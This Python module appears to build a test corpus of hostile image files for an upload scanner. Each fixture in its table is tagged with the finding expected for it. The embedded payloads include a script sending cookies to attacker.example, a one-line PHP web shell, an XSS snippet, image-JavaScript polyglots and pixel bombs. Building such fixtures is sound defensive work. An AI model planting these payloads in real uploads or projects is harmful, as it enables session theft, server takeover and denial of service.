"""Pictures that attackers make, and people by mistake: byte by byte, from pictures of one pixel."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from functools import partial

from PIL import Image

from dev.corpus.zips import Entry, archive

PAGE = b"<html><script>fetch('//attacker.example/'+document.cookie)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"
PROSE = b"It was a dark and stormy night. " * 100
POSITION = b"<rdf:Description exif:GPSLatitude='51,30.0N' exif:GPSLongitude='0,7.0W'/>"
SCRIPT = b"*/=1;alert(document.domain);/*"


def pixel(kind: str) -> bytes:
    """The smallest picture that Pillow makes of a kind."""
    target = io.BytesIO()
    Image.new("P" if kind == "GIF" else "RGB", (1, 1)).save(target, kind)
    return target.getvalue()


def zipped() -> bytes:
    return archive(Entry(name=b"a.txt", data=PAGE))


def over(data: bytes, at: int, new: bytes) -> bytes:
    return data[:at] + new + data[at + len(new) :]


def into(data: bytes, at: int, new: bytes) -> bytes:
    return data[:at] + new + data[at:]


def segment(marker: int, data: bytes) -> bytes:
    return bytes((0xFF, marker)) + (len(data) + 2).to_bytes(2) + data


def jpeg(*segments: bytes) -> bytes:
    """A JPEG with these segments right behind its beginning."""
    return into(pixel("JPEG"), 2, b"".join(segments))


def jpeg_of(width: int, height: int) -> bytes:
    data = pixel("JPEG")
    return over(data, data.index(b"\xff\xc0") + 5, struct.pack(">HH", height, width))


def chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)


def png(*chunks: bytes, size: tuple[int, int] = (1, 1)) -> bytes:
    """A PNG with these chunks behind its header."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(bytes(4)))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + pixels + chunk(b"IEND", b"")


def apng_bomb() -> bytes:
    """A hundred frames of nine megapixels each."""
    frame = struct.pack(">IIIIIHHBB", 0, 3000, 3000, 0, 0, 1, 10, 0, 0)
    return png(chunk(b"acTL", struct.pack(">II", 100, 0)), *[chunk(b"fcTL", frame)] * 100, size=(3000, 3000))


def sub_blocks(data: bytes) -> bytes:
    pieces = [data[at : at + 255] for at in range(0, len(data), 255)]
    return b"".join(bytes((len(piece),)) + piece for piece in pieces) + b"\0"


def gif(*blocks: bytes, width: int = 1, height: int = 1) -> bytes:
    """A GIF with these blocks before its picture."""
    picture = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x4c\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6) + b"".join(blocks) + picture + b";"


def gif_comment(text: bytes) -> bytes:
    return b"\x21\xfe" + sub_blocks(text)


def gif_bomb() -> bytes:
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 8000, 8000, 0) + b"\x02\x02\x4c\x01\x00"
    return gif(*[frame] * 20, width=8000, height=8000)


def webp(*chunks: bytes) -> bytes:
    """A WebP with these chunks behind its picture."""
    data = pixel("WEBP")[12:] + b"".join(chunks)
    return b"RIFF" + (len(data) + 4).to_bytes(4, "little") + b"WEBP" + data


def riff(kind: bytes, data: bytes) -> bytes:
    return kind + len(data).to_bytes(4, "little") + data + bytes(len(data) % 2)


def tiff_of(*entries: tuple[int, int, int, int], size: tuple[int, int] = (1, 1), more: bytes = b"") -> bytes:
    """A TIFF with one directory; an entry is (tag, type, count, value or offset). `more` stands at offset 200."""
    usual = [(256, 4, 1, size[0]), (257, 4, 1, size[1]), (273, 4, 1, 190), (279, 4, 1, 3)]
    rows = sorted([*usual, *entries])
    data = b"II*\0\x08\0\0\0" + len(rows).to_bytes(2, "little")
    data += b"".join(struct.pack("<HHII", *row) for row in rows) + bytes(4)
    return data.ljust(200, b"\0") + more


def gps() -> bytes:
    """A directory of a position, at offset 200."""
    return b"\1\0" + struct.pack("<HHII", 2, 5, 3, 218) + bytes(4) + struct.pack("<IIIIII", 51, 1, 30, 1, 0, 1)


def exif_position() -> bytes:
    head = b"II*\0\x08\0\0\0\1\0" + struct.pack("<HHII", 0x8825, 4, 1, 200) + bytes(4)
    return head.ljust(200, b"\0") + gps()


def many_ends(count: int) -> bytes:
    """A video box behind a picture that declares none."""
    return pixel("JPEG") + (b"\0\0\0\x18ftypisom" + bytes(12)) * count


def script_jpeg() -> bytes:
    """`\\xff\\xd8\\xff\\xe0/*`: a first segment of 0x2F2A bytes is the beginning of a comment in JavaScript."""
    data = pixel("JPEG")
    first = b"\xff\xe0/*" + data[6:20].ljust(0x2F2A - 2, b"\0")
    return data[:2] + first + segment(0xFE, SCRIPT) + data[20:]


def box(kind: bytes, data: bytes) -> bytes:
    return (len(data) + 8).to_bytes(4) + kind + data


def avif_of(width: int, height: int) -> bytes:
    data = pixel("AVIF")
    return over(data, data.index(b"ispe") + 8, struct.pack(">II", width, height))


def avif_with_position() -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (1, 1)).save(target, "AVIF", exif=exif_position())
    return target.getvalue()


Make = Callable[[], bytes]
HOSTILE: dict[str, tuple[Make, set[str]]] = {
    "JPEG with a zip behind": (lambda: pixel("JPEG") + zipped(), {"trailing_data", "second_format"}),
    "JPEG with a page behind": (lambda: pixel("JPEG") + PAGE, {"trailing_data"}),
    "JPEG with an undeclared video": (lambda: many_ends(2), {"trailing_data"}),
    "JPEG with PHP in a comment": (lambda: jpeg(segment(0xFE, PHP)), {"second_format"}),
    "JPEG with a page in EXIF": (lambda: jpeg(segment(0xE1, b"Exif\0\0" + PAGE)), {"second_format"}),
    "JPEG with a zip in a comment": (lambda: jpeg(segment(0xFE, zipped())), {"second_format"}),
    "JPEG with a PDF in a comment": (lambda: jpeg(segment(0xFE, b"%PDF-1.7\n1 0 obj")), {"second_format"}),
    "JPEG that is a script": (script_jpeg, {"second_format"}),
    "JPEG bomb": (partial(jpeg_of, 65500, 65500), {"pixel_bomb"}),
    "JPEG without an end": (lambda: pixel("JPEG")[:-2], {"malformed"}),
    "JPEG with two frames": (
        lambda: jpeg(segment(0xC0, b"\x08\0\1\0\1\1\1\x11\0")),
        {"malformed"},
    ),
    "JPEG with a position": (lambda: jpeg(segment(0xE1, b"Exif\0\0" + exif_position())), {"location"}),
    "JPEG with a position in XMP": (
        lambda: jpeg(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + POSITION)),
        {"location"},
    ),
    "JPEG with a novel": (lambda: jpeg(segment(0xFE, PROSE)), {"metadata_oversized"}),
    "PNG with a zip behind": (lambda: png() + zipped(), {"trailing_data", "second_format"}),
    "PNG with PHP behind": (lambda: png() + PHP, {"trailing_data"}),
    "PNG with a page in a text": (lambda: png(chunk(b"tEXt", b"Comment\0" + PAGE)), {"second_format"}),
    "PNG with a packed page": (
        lambda: png(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(PAGE))),
        {"second_format"},
    ),
    "PNG with a packed novel": (
        lambda: png(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(50 << 20), 9))),
        {"metadata_oversized"},
    ),
    "PNG with a position": (lambda: png(chunk(b"eXIf", exif_position())), {"location"}),
    "PNG with a position in hex": (
        lambda: png(chunk(b"tEXt", b"Raw profile type exif\0\nexif\n 242\n" + exif_position().hex().encode())),
        {"location"},
    ),
    "PNG with a position in a large chunk": (
        lambda: png(chunk(b"eXIf", exif_position() + bytes(70_000))),
        {"location"},
    ),
    "PNG with a position in a text": (lambda: png(chunk(b"tEXt", b"exif:GPSLatitude\0" + b"52/1")), {"location"}),
    "PNG with a page in a chunk of its own": (lambda: png(chunk(b"prVt", PAGE)), {"second_format"}),
    "PNG bomb": (lambda: png(size=(50_000, 50_000)), {"pixel_bomb"}),
    "PNG bomb of frames": (apng_bomb, {"pixel_bomb"}),
    "PNG that was changed": (lambda: over(png(), 20, b"\x07"), {"malformed"}),
    "PNG without pixels": (lambda: png().replace(b"IDAT", b"iDAT", 1), {"malformed"}),
    "GIF with a zip behind": (lambda: gif() + zipped(), {"trailing_data", "second_format"}),
    "GIF with PHP in a comment": (lambda: gif(gif_comment(PHP)), {"second_format"}),
    "GIF that is a script": (lambda: over(gif(gif_comment(SCRIPT)), 6, b"/*"), {"second_format"}),
    "GIF bomb": (lambda: gif(width=65_535, height=65_535), {"pixel_bomb"}),
    "GIF bomb of frames": (gif_bomb, {"pixel_bomb"}),
    "GIF without an end": (lambda: gif()[:-1], {"malformed"}),
    "GIF with a novel": (lambda: gif(gif_comment(PROSE)), {"metadata_oversized"}),
    "WebP with a zip behind": (lambda: webp() + zipped(), {"trailing_data", "second_format"}),
    "WebP with a page inside": (lambda: webp(riff(b"JUNK", PAGE)), {"second_format"}),
    "WebP with a position": (lambda: webp(riff(b"EXIF", exif_position())), {"location"}),
    "WebP bomb": (
        lambda: over(webp(), 26, b"\xff\x3f\xff\x3f"),
        {"pixel_bomb"},
    ),
    "WebP cut off": (lambda: webp()[:-2], {"malformed"}),
    "TIFF with a zip behind": (lambda: tiff_of() + zipped(), {"trailing_data", "second_format"}),
    "TIFF bomb": (lambda: tiff_of(size=(100_000, 100_000)), {"pixel_bomb"}),
    "TIFF in a circle": (lambda: over(tiff_of(), 58, b"\x08\0\0\0"), {"malformed"}),
    "TIFF with pixels elsewhere": (lambda: tiff_of()[:150], {"malformed"}),
    "TIFF with a position": (lambda: tiff_of((0x8825, 4, 1, 200), more=gps()), {"location"}),
    "TIFF with a novel": (
        lambda: tiff_of((270, 2, len(PROSE), 200), more=PROSE),
        {"metadata_oversized"},
    ),
    "AVIF with a zip behind": (lambda: pixel("AVIF") + zipped(), {"trailing_data", "second_format"}),
    "AVIF with a page inside": (lambda: pixel("AVIF") + box(b"free", PAGE), {"second_format"}),
    "AVIF bomb": (partial(avif_of, 65_000, 65_000), {"pixel_bomb"}),
    "AVIF cut off": (lambda: pixel("AVIF")[:-2], {"malformed"}),
    "AVIF with a position": (avif_with_position, {"location"}),
    "AVIF that is a video": (lambda: over(pixel("AVIF"), 8, b"isom").replace(b"avif", b"mp42"), {"malformed"}),
    "BMP with a page behind": (lambda: pixel("BMP") + PAGE, {"trailing_data"}),
    "BMP bomb": (lambda: over(pixel("BMP"), 18, struct.pack("<ii", 1 << 20, 1 << 20)), {"pixel_bomb", "malformed"}),
    "BMP cut off": (lambda: pixel("BMP")[:-1], {"malformed"}),
}
